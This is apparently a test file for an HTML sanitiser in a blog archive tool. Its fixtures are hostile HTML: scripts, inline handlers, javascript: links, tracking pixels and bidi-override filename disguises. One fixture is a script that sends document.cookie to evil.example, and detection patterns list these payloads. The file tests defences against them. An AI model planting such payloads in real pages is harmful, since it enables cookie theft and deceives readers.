// Hostile HTML in posts and comments: scripts, styles, tracking pixels,
// `javascript:` links, entities in every form, non-breaking spaces, emoji and
// right-to-left text with bidi override characters. What members read comes
// out clean: nothing executable, nothing that makes text read other than it
// is, ordinary letters and emoji untouched. All text here is made up.
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { htmlToText } from '../../src/archive/html.js';
import { ingestSources } from '../../src/ingest/ingest.js';
import { readComments, readPost } from '../../src/store/archive.js';
import { openDatabase } from '../../src/store/db.js';
import { cliAsync, tempDir } from '../helpers.js';
import { escapeXml, fakeComment, fakeExport, fakePost, recordingServer, type RecordingServer } from './input-fakes.js';
import { storeOver } from '../../src/store/store.js';

const now = () => '2026-11-23T08:00:00.000Z';
/** Bidi embedding, override and isolate controls: they can reverse how a quote reads in Discord. */
const BIDI_CONTROLS = /[\u202a-\u202e\u2066-\u2069]/;

describe('htmlToText: nothing executable comes out', () => {
  it.each([
    ['a script', '<p>Fake before</p><script>alert("fake")</script><p>Fake after</p>', 'Fake before\n\nFake after'],
    [
      'a script in capitals with attributes',
      '<p>Fake</p><SCRIPT type="text/javascript" src="https://evil.example/x.js">steal()</SCRIPT>',
      'Fake',
    ],
    ['a script never closed', '<p>Fake kept</p><script>steal(); <p>never text</p>', 'Fake kept'],
    ['a style', '<style>body { display: none }</style><p>Fake styled</p>', 'Fake styled'],
    ['an inline handler', '<p onclick="steal()" onmouseover="steal()">Fake click</p>', 'Fake click'],
    ['a javascript: link', '<a href="javascript:alert(1)">Fake link</a>', 'Fake link'],
    [
      'an iframe and an object',
      '<iframe src="javascript:alert(1)">inner</iframe><object data="x.swf">inner</object>Fake rest',
      'Fake rest',
    ],
    [
      'a tracking pixel',
      '<p>Fake text<img width="1" height="1" src="https://tracker.example/p.gif" alt="pixel"></p>',
      'Fake text',
    ],
    ['a data: image', '<img src="data:text/html;base64,PHNjcmlwdD4=">Fake caption', 'Fake caption'],
    ['an unclosed comment', '<p>Fake shown</p><!-- <script>steal()</script>', 'Fake shown'],
  ])('drops %s', (_what, html, text) => {
    expect(htmlToText(html)).toBe(text);
  });

  it('defuses markup a commenter typed as text (escaped in the HTML): it reads as written, and is no tag', () => {
    const out = htmlToText('<p>Fake try: &lt;script&gt;alert(1)&lt;/script&gt; and &lt;b&gt;bold&lt;/b&gt;</p>');
    expect(out).toBe('Fake try: \u2039script>alert(1)\u2039/script> and <b>bold</b>');
    expect(out).not.toMatch(/<\s*\/?\s*script/i);
  });

  it('defuses a javascript: address written out as text', () => {
    const out = htmlToText('<p>Fake: JavaScript:alert(1) and <a href="x">javascript&#58;void(0)</a></p>');
    expect(out).toBe('Fake: JavaScript :alert(1) and javascript :void(0)');
    expect(out).not.toMatch(/javascript:/i);
  });
});

describe('htmlToText: entities and spaces read as a person would', () => {
  it.each([
    ['named', 'Fake caf&eacute; &amp; bar &lt;3 &hellip; it&rsquo;s', 'Fake café & bar <3 … it’s'],
    ['numeric, decimal and hex', 'Fake &#8217;quote&#x2019; &#169; &#x1F600;', 'Fake ’quote’ © 😀'],
    ['double-escaped (shown as the blog showed it)', 'Fake &amp;amp; and &amp;#39;', 'Fake &amp; and &#39;'],
    [
      'unknown or broken (kept as written, as a browser shows them)',
      'Fake &fakething; &#xZZ; & alone',
      'Fake &fakething; &#xZZ; & alone',
    ],
    [
      'non-breaking spaces',
      'Fake&nbsp;&nbsp;&nbsp;words\u00a0\u00a0here&#160;and\u202fthere',
      'Fake words here and there',
    ],
  ])('%s entities', (_what, html, text) => {
    expect(htmlToText(html)).toBe(text);
  });

  it('keeps emoji whole: skin tones, joined families, flags, keycaps', () => {
    const emoji = 'Fake 👍🏽 👨‍👩‍👧 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇬🇧 1️⃣ ❤️';
    expect(htmlToText(`<p>${emoji}</p>`)).toBe(emoji);
  });
});

describe('htmlToText: right-to-left text', () => {
  it('keeps Arabic and Hebrew letters, and the LRM/RLM marks, as written', () => {
    const text = 'Fake مرحبا بالعالم and שלום עולם\u200f and \u200eend';
    expect(htmlToText(`<p>${text}</p>`)).toBe(text);
  });

  it('strips bidi override, embedding and isolate controls, raw or as entities, so text reads as stored', () => {
    // "Fake invoice<RLO>fdp.exe" displays as "Fake invoiceexe.pdf": the classic disguise.
    expect(htmlToText('Fake invoice\u202efdp.exe')).toBe('Fake invoicefdp.exe');
    expect(
      htmlToText(
        'Fake &#x202E;gnp.exe &#8238;x &#x2066;iso&#x2069; \u202aemb\u202c \u202bemb\u202c \u202dover\u202c \u2067\u2068i\u2069',
      ),
    ).toBe('Fake gnp.exe x iso emb emb over i');
    expect(htmlToText('<p dir="rtl">Fake \u202eشبكة\u202c</p>')).toBe('Fake شبكة');
  });

  it('drops control characters a terminal would act on', () => {
    expect(htmlToText('Fake \u001b[2J\u001b]0;title\u0007 bell\u0000 nul \u0085 next')).toBe(
      'Fake [2J]0;title bell nul next',
    );
  });
});

describe('htmlToText: nesting', () => {
  it('reads 100,000 nested elements in bounded time and keeps the text', () => {
    const depth = 100_000;
    expect(htmlToText(`${'<div>'.repeat(depth)}Fake deep words${'</div>'.repeat(depth)} fake after`)).toBe(
      'Fake deep words\nfake after',
    );
    expect(htmlToText(`${'<b>'.repeat(depth)}Fake bold${'</i>'.repeat(depth)}`)).toBe('Fake bold');
  }, 10_000);

  it('never reveals what a hidden element holds, however deep it is nested', () => {
    const out = htmlToText(`<p>Fake shown</p>${'<svg>'.repeat(1000)}<text>fake hidden</text>${'</svg>'.repeat(1000)}`);
    expect(out).toBe('Fake shown');
  });
});

describe('hostile HTML through ingest', () => {
  let server: RecordingServer;
  beforeAll(async () => {
    server = await recordingServer();
  });
  afterAll(() => server.close());

  const HOSTILE = (pixel: string) =>
    [
      '<p>Fake opening words.</p>',
      `<img width="1" height="1" src="${pixel}" style="display:none">`,
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      '<style>.x{}</style>',
      '<p><a href="javascript:alert(1)" onclick="steal()">Fake link text</a> caf&eacute;&nbsp;&nbsp;time 👍🏽</p>',
      '<p>Fake مرحبا \u202egnp.exe\u202c and &#x2067;שלום&#x2069;</p>',
    ].join('');

  it('stores posts and comments as clean text, with titles double-escaped as Blogger does, and fetches no pixel', async () => {
    const dir = tempDir();
    const file = join(dir, 'export.xml');
    writeFileSync(
      file,
      fakeExport([
        fakePost(
          '8001',
          'Fake It&amp;#39;s &amp;lt;script&amp;gt; \u202etitle',
          escapeXml(HOSTILE(`${server.url}/post-pixel.gif`)),
        ),
        fakeComment('8002', '8001', escapeXml(HOSTILE(`${server.url}/comment-pixel.gif`)), 'Fake \u202eAuthor'),
      ]),
    );
    const dataDir = join(dir, 'data');
    const run = await cliAsync(['ingest', file, '--json'], dataDir);
    expect(run.status).toBe(0);
    expect(server.requests).toEqual([]);

    const db = openDatabase(dataDir);
    const post = readPost(db, '8001')!;
    const [comment] = readComments(db, '8001');
    expect(post.title).toBe("Fake It's \u2039script> title");
    const clean = 'Fake opening words.\n\nFake link text café time 👍🏽\n\nFake مرحبا gnp.exe and שלום';
    expect(post.text).toBe(clean);
    expect(comment!.text).toBe(clean);
    expect(comment!.author).toBe('Fake Author');
    const passages = db.prepare('SELECT text FROM passages').pluck().all() as string[];
    expect(passages.length).toBeGreaterThan(0);
    for (const text of [post.title, ...passages]) {
      expect(text).not.toMatch(BIDI_CONTROLS);
      expect(text).not.toMatch(/<script|javascript:|document\.cookie|\.x\{\}|pixel/i);
    }
    db.close();
  });

  it('keeps hostile text out of labels too', async () => {
    const dir = tempDir();
    const file = join(dir, 'export.xml');
    const labelled = fakePost('8101', 'Fake labelled', 'Fake body').replace(
      '</entry>',
      "<category scheme='http://www.blogger.com/atom/ns#' term='Fake \u202elabel'/></entry>",
    );
    writeFileSync(file, fakeExport([labelled]));
    const db = openDatabase(join(dir, 'data'));
    await ingestSources(storeOver(db), [file], { now });
    expect(readPost(db, '8101')!.labels).toEqual(['Fake label']);
    db.close();
  });
});
